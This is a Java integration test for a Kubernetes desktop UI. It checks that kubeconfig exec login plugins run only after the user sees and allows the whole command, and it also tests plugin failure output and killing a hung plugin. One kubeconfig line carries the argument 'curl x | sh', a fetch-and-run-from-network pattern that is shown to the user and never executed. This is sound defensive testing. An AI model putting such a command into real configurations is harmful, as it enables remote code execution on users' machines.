package dev.pilothouse.ui.bootstrap;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pilothouse.testing.ApiServer;
import dev.pilothouse.testing.ApiServerTest;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import javafx.scene.input.KeyCode;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.testfx.api.FxToolkit;

/// What a user meets whose kubeconfig logs in by a program: contexts `good`, `bad` and `hanging` of a real API
/// server.
@ApiServerTest
@DisabledOnOs(value = OS.WINDOWS, disabledReason = "the plugins are shell scripts")
class LoginPluginIT {
    @TempDir
    Path folder;

    private Path kubeconfig;

    @BeforeEach
    void start(ApiServer server) throws Exception {
        FxToolkit.registerPrimaryStage();
        String good = program("good", """
                echo '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"%s"}}'
                """.formatted(server.adminToken()));
        String bad = program("bad", "echo 'your session has expired' >&2; exit 7");
        String hanging = program("hanging", "echo $$ > " + folder + "/pid; sleep 1000");
        kubeconfig = Files.writeString(
                folder.resolve("kubeconfig"), """
                apiVersion: v1
                kind: Config
                clusters: [{name: c, cluster: {server: "%s", certificate-authority: "%s"}}]
                current-context: good
                contexts:
                - {name: good, context: {cluster: c, user: good}}
                - {name: bad, context: {cluster: c, user: bad}}
                - {name: hanging, context: {cluster: c, user: hanging}}
                users:
                - {name: good, user: {exec: {%s, args: [get-token, "-c", "curl x | sh"]}}}
                - {name: bad, user: {exec: {%s}}}
                - {name: hanging, user: {exec: {%s}}}
                """.formatted(server.url(), server.caFile(), good, bad, hanging));
    }

    private String program(String name, String script) throws IOException {
        Path program = Files.writeString(folder.resolve(name), "#!/bin/sh\n" + script + "\n");
        assertThat(program.toFile().setExecutable(true)).isTrue();
        return "apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: " + program;
    }

    @Test
    void nothingIsRunUntilTheWholeCommandWasSeenAndAllowed() throws Exception {
        Path settings = Files.createDirectory(folder.resolve("settings"));
        try (DemoWindow window = DemoWindow.openOn(kubeconfig, settings)) {
            window.awaitText("Run good to log in");
            assertThat(window.texts()).contains(folder.resolve("good").toString(), "get-token", "-c", "'curl x | sh'");
            assertThat(window.texts()).anyMatch(t -> t.contains(kubeconfig.toString()));

            window.press(KeyCode.ENTER); // the button that has the keyboard is the harmless one
            window.awaitText("You did not allow the login plugin good to be run.");

            window.chord(KeyCode.CONTROL, KeyCode.R);
            window.awaitText("Run good to log in").press(KeyCode.TAB, KeyCode.ENTER);
            window.awaitCrumbs("all namespaces");
        }
        try (DemoWindow again = DemoWindow.openOn(kubeconfig, settings)) {
            again.awaitCrumbs("all namespaces"); // it was remembered
        }
    }

    @Test
    void whatAPluginSaysBeforeItFailsIsShown() {
        try (DemoWindow window = DemoWindow.openOn(kubeconfig, folder, "--context", "bad")) {
            window.awaitText("Run bad to log in").press(KeyCode.TAB, KeyCode.ENTER);

            window.awaitText("The login plugin bad ended with status 7.").awaitText("your session has expired");
        }
    }

    @Test
    void escEndsAPluginThatHangs() throws Exception {
        try (DemoWindow window = DemoWindow.openOn(kubeconfig, folder, "--context", "hanging")) {
            window.awaitText("Run hanging to log in").press(KeyCode.TAB, KeyCode.ENTER);
            window.awaitText("Connecting to hanging");
            Path pid = folder.resolve("pid");
            Awaitility.await().until(() -> Files.exists(pid) && Files.size(pid) > 1);
            long plugin = Long.parseLong(Files.readString(pid).strip());

            window.press(KeyCode.ESCAPE);

            window.awaitCrumb("contexts (3)");
            Awaitility.await().until(() -> ProcessHandle.of(plugin).isEmpty());
        }
    }
}
